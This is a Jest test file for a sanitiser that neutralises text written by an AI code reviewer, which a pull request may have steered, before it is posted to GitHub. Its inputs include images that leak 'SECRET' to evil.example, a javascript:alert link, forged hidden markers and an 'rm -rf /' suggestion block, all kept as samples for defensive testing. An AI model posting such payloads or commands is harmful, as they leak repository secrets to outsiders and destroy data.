import { describe, expect, it } from "@jest/globals";
import { SUMMARY_MARKER } from "../../../src/core/review/render-summary.js";
import { GITHUB_COMMENT_MAX_LENGTH, sanitizePostedText, type SanitizeOptions } from "../../../src/core/sanitize/sanitize-posted-text.js";

// What GitHub receives for text the model (steered by the pull request) wrote. Z is the
// zero-width space that keeps a mention or reference from working while it reads the same.
const Z = "\u200B";
const ON_GITHUB: SanitizeOptions = { githubHost: "github.com", maxLength: GITHUB_COMMENT_MAX_LENGTH };
const sanitize = (text: string, options: Partial<SanitizeOptions> = {}) => sanitizePostedText(text, { ...ON_GITHUB, ...options });

describe("sanitizePostedText: mentions and references", () => {
  it.each([
    ["a user and a team", "Thanks @octocat and @github/security-team!", `Thanks @${Z}octocat and @${Z}github/security-team!`],
    ["a backslash-escaped @", "\\@octocat", `\\@${Z}octocat`],
    ["an @ after emphasis, which starts a text node of its own", "_@octocat_", `_@${Z}octocat_`],
    ["a closing keyword", "Fixes #12", `Fixes${Z} #${Z}12`],
    ["keywords with cross-repository and GH- references", "closes octo-org/octo-repo#100 and resolves GH-7", `closes${Z} octo-org/octo-repo#${Z}100 and resolves${Z} GH-${Z}7`],
    ["a keyword with a colon", "Fix: #3", `Fix${Z}: #${Z}3`],
    ["a bare issue reference", "See #12.", `See #${Z}12.`],
    ["an @ left before a removed link, which would join its text", "@[octocat](https://evil.example)", `@${Z}octocat`],
  ])("neutralises %s", (_case, text, expected) => {
    expect(sanitize(text)).toBe(expected);
  });

  it.each([
    ["e-mail addresses", "Mail dev@example.com or first.last@corp.example"],
    ["a mention inside inline code", "`@Injectable()` decorators"],
    ["a decorator inside fenced code", "```ts\n@Component({})\nclass A {}\n```"],
    ["a # that refers to nothing", "C# 10 and #define"],
  ])("leaves %s alone", (_case, text) => {
    expect(sanitize(text)).toBe(text);
  });
});

describe("sanitizePostedText: images and links", () => {
  it.each([
    ["an image whose URL would carry data out, keeping its alt text", "![x](https://evil.example/?q=SECRET)", "x"],
    ["an HTML image", '<img src="https://evil.example/?q=SECRET" alt="x">', ""],
    ["an image even on the GitHub host", "![diagram](https://github.com/o/r/raw/main/d.png)", "diagram"],
    ["a link elsewhere, keeping its text", "[docs](https://evil.example/a) and [PR](https://github.com/o/r/pull/1)", "docs and [PR](https://github.com/o/r/pull/1)"],
    ["links that only look like the GitHub host", "[x](//evil.example/a) [y](/\\evil.example) [z](https://github.com@evil.example/)", "x y z"],
    ["a javascript: link", "[a](javascript:alert(1))", "a"],
    ["a badge image inside a GitHub link", "[![badge](https://evil.example/b.svg)](https://github.com/o/r)", "[badge](https://github.com/o/r)"],
    ["a bare URL elsewhere, naming its host", "see https://evil.example/?q=SECRET.", "see (link to `evil.example` removed)."],
    ["a bare www. URL", "www.evil.example/x", "(link to `www.evil.example` removed)"],
    ["a URL put together around a removed image", "http![](x)s://evil.example", `http${Z}s://evil.example`],
    ["reference links and their definitions", "[a][1]\n\n[1]: https://evil.example", "\\[a\\]\\[1\\]\n\n\\[1\\]: (link to `evil.example` removed)"],
  ])("removes %s", (_case, text, expected) => {
    expect(sanitize(text)).toBe(expected);
  });

  it("keeps a link to the GitHub host, without its title", () => {
    expect(sanitize('[a](https://github.com/o/r "title")')).toBe("[a](https://github.com/o/r)");
  });

  it("keeps a bare URL of the GitHub host as written", () => {
    const text = "https://github.com/o/r/pull/1#issuecomment-2 works";
    expect(sanitize(text)).toBe(text);
  });

  it("allows the configured GitHub Enterprise host instead of github.com", () => {
    expect(sanitize("[a](https://ghe.example.com/o/r) [b](https://github.com/o/r)", { githubHost: "ghe.example.com" })).toBe("[a](https://ghe.example.com/o/r) b");
  });
});

describe("sanitizePostedText: HTML and our hidden markers", () => {
  it.each([
    ["a <details> block", "<details><summary>Click</summary>hidden</details>", "&lt;details>&lt;summary>Click&lt;/summary>hidden&lt;/details>"],
    ["a forged summary marker", SUMMARY_MARKER, "&lt;!-- patchwise:summary -->"],
    ["a forged marker behind a backslash", `\\${SUMMARY_MARKER}`, "&lt;!-- patchwise:summary -->"],
    ["an ampersand, so no entity can spell a character", "a &#64;b &lt;", `a &amp;#${Z}64;b &amp;lt;`],
    ["math", "$x^2$", "\\$x^2\\$"],
  ])("escapes %s", (_case, text, expected) => {
    expect(sanitize(text)).toBe(expected);
  });

  it("breaks a marker shown as code, so that nothing finds it by its text", () => {
    const posted = sanitize(`\`${SUMMARY_MARKER}\``);
    expect(posted).toBe(`\`<!--${Z} patchwise:summary -->\``);
    expect(posted.includes(SUMMARY_MARKER)).toBe(false);
  });
});

describe("sanitizePostedText: code stays code", () => {
  it("keeps inline code and fenced code as written", () => {
    const text = "Use `Array<string>` here:\n```ts\nconst a: Array<string> = [];\n```";
    expect(sanitize(text)).toBe(text);
  });

  it("moves a fence out of its list item, so that GitHub reads as code exactly what was kept as code", () => {
    expect(sanitize("1. Step\n   ```js\n   if (a < b) {}\n   ```")).toBe("1. Step\n```js\nif (a < b) {}\n```");
    // In a list item GitHub would end the fence at the unindented line and render the image.
    expect(sanitize("1. x\n   ```\n   <img src=x>\n\n![a](https://evil.example/?q=S)\n```")).toBe("1. x\n```\n<img src=x>\n\n![a](https://evil.example/?q=S)\n```");
  });

  it("closes a fence the model left open, which would swallow what we write after it", () => {
    expect(sanitize("```\n<b>x")).toBe("```\n<b>x\n```");
  });

  it("turns a suggestion block in the text into plain code: only our own suggestion is committable", () => {
    expect(sanitize("```suggestion\nrm -rf /\n```")).toBe("```text\nrm -rf /\n```");
  });

  it.each([
    ["a backslash-escaped backtick before a code span", "\\``<img src=x>`", `\\\`${Z}\`<img src=x>\``],
    ["two code spans that meet where an image was removed", "`a`![](x)``<b>``", `\`a\`${Z}\`\`<b>\`\``],
    ["a code span with a pipe, which a table row would split", "| `a|<img src=x>` |", `| \\\`a|${Z}\\\` |`],
    ["an unmatched backtick", "a ` b <i>", "a \\` b &lt;i>"],
    // Left as it was, the first line would open a code block that the fence below closes, and its code would render.
    ["a fence left at the start of a line by a removed image", '<img src="x"> ~~~\n~~~~\n<!--\n~~~~', " \\~~~\n~~~~\n<!--\n~~~~"],
    ["a fence made of a removed link's text", "[~~~](https://evil.example)\n~~~~\n<!--\n~~~~", "\\~~~\n~~~~\n<!--\n~~~~"],
  ])("does not let %s turn prose into code or code into prose", (_case, text, expected) => {
    expect(sanitize(text)).toBe(expected);
  });

  it("reads text for one line as GitHub will once it sits there", () => {
    expect(sanitize("line one\n```\n<b>\n```", { singleLine: true })).toBe("line one ``` <b> ```");
    expect(sanitize("a ```\n<b>", { singleLine: true })).toBe("a \\`\\`\\` &lt;b>");
  });
});

describe("sanitizePostedText: length", () => {
  it("cuts between words and says so", () => {
    expect(sanitize("word ".repeat(20), { maxLength: 40 })).toBe("word word word word word …(truncated)");
  });

  it("keeps GitHub's comment limit on a huge answer", () => {
    const posted = sanitize(`${"<".repeat(70_000)}\n${"x".repeat(70_000)}`);
    expect(posted.length).toBeLessThanOrEqual(GITHUB_COMMENT_MAX_LENGTH);
    expect(posted.endsWith("\n\n…(truncated)")).toBe(true);
  });

  it("says so when the input was cut before sanitising, even if the result is short", () => {
    // 50 000 removed images leave almost nothing, but the text past twice the limit was never read.
    const posted = sanitize(`${"![](https://evil.example/) ".repeat(5_000)}tail`, { maxLength: 1_000 });
    expect(posted.length).toBeLessThanOrEqual(1_000);
    expect(posted).toMatch(/…\(truncated\)$/);
    expect(posted).not.toContain("tail");
  });
});
